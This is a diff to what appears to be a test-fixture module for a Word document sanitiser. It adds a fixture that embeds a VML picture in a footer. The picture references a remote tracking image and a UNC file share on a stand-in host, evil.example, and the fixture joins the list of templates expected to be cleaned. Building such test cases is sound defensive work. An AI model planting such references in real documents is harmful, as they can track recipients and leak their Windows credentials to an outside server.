@@ -386,6 +386,16 @@ def entity_expansion(folder: Path) -> Path:
     )
 
 
+def vml_urls(folder: Path) -> Path:
+    """A VML picture in the footer naming a remote image and a file share with no relationship at all."""
+    shape = (
+        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
+        ' style="width:9pt;height:9pt"><v:imagedata src="https://evil.example/pixel.png"'
+        ' o:href="\\\\evil.example\\share\\crest.png" o:title="crest"/></v:shape></w:pict></w:r>'
+    )
+    return repack(folder / "template-vml.docx", replace={"word/footer1.xml": in_footer(shape)})
+
+
 SAFE = [attached_template, macros, macro_template, activex, ole_link, images, hyperlinks, customizations, mail_merge,
-        active_fields, bad_page_size, bad_margins, bad_styles]  # fmt: skip
+        vml_urls, active_fields, bad_page_size, bad_margins, bad_styles]  # fmt: skip
 REFUSED = [dense_part, many_parts, long_names, not_a_zip, text_file, entity_expansion]
